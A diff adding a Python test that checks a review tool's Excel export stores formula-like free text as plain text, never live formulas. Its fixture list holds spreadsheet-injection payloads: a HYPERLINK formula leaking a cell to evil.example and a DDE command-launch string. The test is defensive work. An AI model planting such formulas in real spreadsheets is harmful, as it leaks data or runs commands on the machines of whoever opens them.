@@ -309,3 +309,35 @@ def test_labelled_export_is_a_submission_ready_for_retraining(run_dir, scored, t
     # a second export into the same folder is refused rather than mixing two exports
     r = CliRunner().invoke(cli, ["review", "export", str(run_dir), "--labelled", str(dest), "--submission", str(sub)])
     assert r.exit_code == 1 and "非空" in r.output
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"点此查看")', "=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_workbook_writes_formula_like_text_as_text_and_reads_it_back(run_dir, tmp_path):
+    """Free text that starts with "=" (notes, inspector organisation, a name) is stored as text, never
+    as a live formula, and comes back unchanged on import and in the next workbook."""
+    c = TestClient(create_app(run_dir))
+    s = scores(run_dir)
+    pid = s.loc[s["flag"] != "", "policy_id"].iloc[0]
+    assert post(c, pid, inspector_org=FORMULAS[2], notes=FORMULAS[0]).status_code == 303
+    run, store = ReviewRun.open(run_dir), ReviewStore(run_dir / "review.sqlite")
+    book = tmp_path / "review.xlsx"
+    write_workbook(run, store, book)
+    wb = openpyxl.load_workbook(book)
+    for ws in wb.worksheets:
+        assert not [cell.coordinate for row in ws.iter_rows() for cell in row if cell.data_type == "f"]
+    ws = wb[SHEET]
+    header = [cell.value for cell in ws[1]]
+    row = next(r for r in ws.iter_rows(min_row=2) if r[header.index("保单号")].value == pid)
+    assert row[header.index("备注")].value == FORMULAS[0]
+    assert row[header.index("核查单位")].value == FORMULAS[2]
+    row[header.index("备注")].value = FORMULAS[1]  # edited by the evaluator, saved by Excel
+    row[header.index("备注")].data_type = "s"
+    wb.save(book)
+    import_workbook(run, store, book, reviewer="李四")
+    assert store.current().set_index("policy_id").at[pid, "notes"] == FORMULAS[1]
+    again = tmp_path / "again.xlsx"
+    write_workbook(run, store, again)
+    cells = [cell for row in openpyxl.load_workbook(again)[SHEET].iter_rows() for cell in row]
+    assert FORMULAS[1] in [cell.value for cell in cells] and not [cell for cell in cells if cell.data_type == "f"]
